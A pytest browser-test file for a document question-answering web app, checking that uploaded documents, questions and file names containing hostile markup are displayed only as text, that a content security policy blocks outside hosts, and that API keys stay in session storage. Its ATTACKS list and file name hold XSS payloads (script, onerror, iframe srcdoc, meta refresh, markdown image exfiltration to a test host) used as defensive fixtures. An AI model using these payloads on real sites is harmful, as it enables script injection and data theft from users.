"""Keys stay where they were typed; nothing that a document, a model or a name says ever runs or leads anywhere."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

import pytest

from chromium import Chromium, Page

PLAIN = "# Pump\n\nThe warranty of the pump lasts for five years.\n"
QUESTION = "Which warranty of the pump lasts for years?"
ATTACKS = (
    "<script>window.pwned = 1; fetch('{url}/script')</script>",
    "<img src='{url}/img.png' onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'><a href='javascript:window.pwned=1'>x</a></svg>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>' src='{url}/frame'></iframe>",
    "<link rel=stylesheet href='{url}/style.css'><style>@import '{url}/import.css'</style>",
    "![secret]({url}/markdown.png?q=secret) [click]({url}/link)",
    "<meta http-equiv=refresh content='0;url={url}/meta'><base href='{url}/'>",
    "<form action='{url}/form'><button>ok</button></form>",
)


def hostile(url: str) -> str:
    """A document that answers the question, with an attack in each sentence that does."""
    attacks = [attack.format(url=url) for attack in ATTACKS]
    lines = [f"The warranty of the pump lasts for {number} years {attack}." for number, attack in enumerate(attacks, 2)]
    return f"# Pump {attacks[1]}\n\n## Warranty {attacks[0]}\n\n" + "\n\n".join(lines) + "\n"


def unharmed(page: Page, url: str) -> None:
    """Nothing ran, nothing was made of the text but text, and nothing left for anywhere else."""
    assert page.js("window.pwned") is None
    assert (
        page.js(
            "document.querySelectorAll('main script, iframe, main img, main form[action], base, dialog img').length"
        )
        == 0
    )
    hosts = page.js(
        "[...document.querySelectorAll('[href], [src]')].map((it) => new URL(it.href || it.src, location).host)"
    )
    assert set(hosts) == {urlsplit(url).netloc}
    assert {urlsplit(request["url"]).netloc for request in page.requests} == {urlsplit(url).netloc}
    assert page.problems == []


def test_hostile_documents_are_shown_as_the_text_they_are(chromium: Chromium, tenant: Any, elsewhere: Any) -> None:
    text = hostile(elsewhere.url)
    tenant.upload(**{"pump <img src=x onerror=window.pwned=1>_md": text})
    with chromium.page() as page:
        tenant.enter(page)
        page.write("#question", QUESTION)
        page.press("Enter")
        page.wait("document.querySelector('.feedback')")
        page.see("The warranty of the pump lasts for", ".answer")
        page.click(".quote")
        assert page.text("dialog mark") in text
        page.see("<iframe srcdoc", "dialog .source")
        page.see("![secret]", "dialog .source")
        unharmed(page, tenant.site.url)
        for path in ("/documents", "/costs", "/cache", "/budgets"):
            page.goto(tenant.site.url + path)
            page.wait("!document.querySelector('#who').hidden && !document.querySelector('[aria-busy]')")
            unharmed(page, tenant.site.url)
    assert elsewhere.asked == []


def test_hostile_questions_comments_and_names_are_text_too(chromium: Chromium, tenant: Any, elsewhere: Any) -> None:
    tenant.upload(pump_md=PLAIN)
    attack = ATTACKS[1].format(url=elsewhere.url)
    with chromium.page() as page:
        tenant.enter(page)
        page.write("#question", f"{attack} {QUESTION} [1] [2] [999]")
        page.press("Enter")
        page.wait("document.querySelector('.feedback, .turn .notice')")
        page.see("onerror", ".asked")
        unharmed(page, tenant.site.url)
    assert elsewhere.asked == []


def test_the_policy_stops_what_slips_through(chromium: Chromium, tenant: Any, elsewhere: Any) -> None:
    """Were there a mistake in a script, the browser itself would still refuse markup, code and foreign hosts."""
    with chromium.page() as page:
        tenant.enter(page)
        with pytest.raises(RuntimeError, match="TrustedHTML"):
            page.js("document.body.innerHTML = '<b>markup</b>'")
        with pytest.raises(RuntimeError, match="Failed to fetch"):
            page.js(f"fetch('{elsewhere.url}/fetch', {{mode: 'no-cors'}})")
        page.js(
            "(() => { const it = document.createElement('img'); document.body.append(it);"
            f" return new Promise((done) => {{ it.onerror = () => done(1); it.src = '{elsewhere.url}/img' }}) }})()"
        )
        page.until(lambda: any("Content Security Policy" in it for it in page.problems), "the browser to complain")
    assert elsewhere.asked == []


def test_a_key_is_asked_for_checked_kept_in_the_tab_and_forgotten(chromium: Chromium, tenant: Any) -> None:
    with chromium.page() as page:
        page.goto(tenant.site.url + "/costs")
        page.wait("document.activeElement.id === 'key'")
        page.dismiss()
        page.click("main .notice button")
        page.wait("document.activeElement.id === 'key'")
        page.write("dialog #key", "two words")
        page.press("Enter")
        page.see("has no blanks", "dialog")
        page.write("dialog #key", tenant.key[:-1] + ("A" if tenant.key[-1] != "A" else "B"))
        page.press("Enter")
        page.see("This key is not valid", "dialog")
        assert page.js("sessionStorage.length") == 0
        tenant.enter(page, "/costs")
        assert page.js("Object.values(sessionStorage)") == [tenant.key]
        assert page.js("[localStorage.length, document.cookie]") == [0, ""]
        assert not [it["url"] for it in page.requests if tenant.key in it["url"]]
        page.click("#who")
        page.see(tenant.key.split("_")[1], "dialog")
        assert tenant.key.split("_", 2)[2] not in page.js("document.body.innerText")
        page.click("dialog .buttons button")
        page.wait("document.activeElement.id === 'key'")
        assert page.js("sessionStorage.length") == 0
    with chromium.page() as page:
        page.goto(tenant.site.url + "/costs")
        page.wait("document.activeElement.id === 'key'")


def test_a_key_that_may_only_ask_is_offered_nothing_else(chromium: Chromium, tenant: Any) -> None:
    tenant.upload(pump_md=PLAIN)
    with chromium.page() as page:
        tenant.enter(page, "/documents", "query")
        page.see("pump.md", "#list")
        assert not page.js("document.querySelector('#list .danger')")
        assert page.js("document.querySelector('#adding').hidden")
        page.goto(tenant.site.url + "/budgets")
        page.see("A key with the scope admin can set one")
        assert page.js("document.querySelector('#add').hidden")


def test_without_keys_the_pages_work_on_this_machine(chromium: Chromium, serve: Callable[..., Any]) -> None:
    with serve() as site, chromium.page() as page:
        page.goto(site.url + "/")
        page.see("There are no documents yet")
        assert not page.js("document.querySelector('dialog')")
        page.click("#who")
        page.see("this machine only", "dialog")
        page.dismiss()
        assert page.problems == []
        page.write("#question", QUESTION)
        page.press("Enter")
        page.see("There are no documents yet: upload some first.", ".turn")
        assert page.js("document.querySelector('.turn .notice a').pathname") == "/documents"
